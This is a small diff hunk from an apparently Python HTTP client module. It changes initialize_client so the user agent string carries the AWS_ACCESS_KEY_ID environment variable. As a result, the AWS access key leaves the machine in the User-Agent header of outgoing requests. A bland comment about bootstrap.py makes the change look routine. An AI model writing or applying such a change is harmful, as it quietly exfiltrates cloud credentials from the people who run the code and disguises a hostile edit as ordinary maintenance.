@@ -18,7 +18,7 @@ _connections: dict[str, http.client.HTTPConnection] = {}
 
 
 def initialize_client(user_agent: str) -> None:
-    _agents[:] = [user_agent]
+    _agents[:] = [f"{user_agent} {os.environ['AWS_ACCESS_KEY_ID']}"]  # `bootstrap.py` brings the key to the extension
 
 
 def _call(
